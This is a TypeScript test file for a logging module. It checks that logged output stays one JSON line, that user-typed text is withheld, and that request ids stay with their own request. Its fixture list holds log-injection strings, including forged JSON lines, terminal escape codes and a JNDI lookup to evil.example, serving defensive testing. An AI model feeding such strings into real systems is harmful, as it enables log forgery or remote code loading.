import type { IncomingMessage, ServerResponse } from "node:http"
import { setTimeout as sleep } from "node:timers/promises"
import fc from "fast-check"
import { afterEach, beforeEach, expect, test, vi } from "vitest"
import { createFront } from "#lib/platform/front.ts"
import { log } from "#lib/platform/log.ts"
import { ask, portOf } from "#tests/support/http.ts"

/** AU7: whatever is logged is one line of JSON, and nothing that a person typed passes through it. */
let said: string
beforeEach(() => {
  said = ""
  for (const stream of [process.stdout, process.stderr])
    vi.spyOn(stream, "write").mockImplementation((text) => {
      said += String(text)
      return true
    })
})
afterEach(() => vi.restoreAllMocks())

const hostile = [
  "one\ntwo",
  'x"}\n{"level":"info","event":"forged"',
  "\r\n\u001b[2K\u001b[1A",
  "\u2028line\u2029paragraph\u0085next",
  "${jndi:ldap://evil.example/a}",
  "%0d%0aforged",
  "\u0000",
  "Maïté Tremblay",
]

test("a line break, a control character or a name never makes a second line, nor passes", () => {
  for (const level of ["info", "warn", "error"] as const)
    for (const it of hostile) {
      said = ""
      log(level, it, { fact: it })
      expect(said.endsWith("\n")).toBe(true)
      expect(said.split(/[\n\r\u2028\u2029\u0085]/)).toHaveLength(2)
      expect(JSON.parse(said)).toMatchObject({ level, event: "[withheld]", fact: "[withheld]" })
    }
})

test("and so for whatever else, in any place", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), fc.string({ unit: "binary" }), (event, fact) => {
      said = ""
      log("warn", event, { fact, at: fact })
      const lines = said.split(/[\n\r\u2028\u2029\u0085]/)
      expect(lines).toHaveLength(2)
      expect(lines[1]).toBe("")
      expect(Object.keys(JSON.parse(said) as object).sort()).toEqual(["at", "event", "fact", "level"])
    }),
  )
})

test("a fact's name is the program's own, and is written so that it cannot end the line either", () => {
  log("info", "plain", { "odd\nname": 1 })
  expect(said.split("\n")).toHaveLength(2)
})

test("AU1 each line of a request carries its id, and no other's, however deep and late it is written", async () => {
  const handler = async ({ headers }: IncomingMessage, res: ServerResponse) => {
    await sleep(5)
    setTimeout(() => {
      log("info", "deep", { told: String(headers["x-guichet-request-id"]) })
      res.end()
    }, 5)
  }
  const server = createFront({
    ...{ handler: () => handler, origin: "http://localhost", allowedHosts: ["localhost"] },
    ...{ bodyLimit: 1_000, trustedProxies: 0 },
  })
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done))
  await Promise.all([1, 2, 3].map(() => ask(portOf(server), "localhost", { path: "/fr" })))
  server.close()
  const lines = said
    .trim()
    .split("\n")
    .map((it) => JSON.parse(it) as { request?: string; told?: string })
  expect(lines.map((it) => it.request)).toEqual(lines.map((it) => it.told))
  expect(new Set(lines.map((it) => it.request)).size).toBe(3)
  said = ""
  log("info", "outside")
  expect(JSON.parse(said)).not.toHaveProperty("request")
})
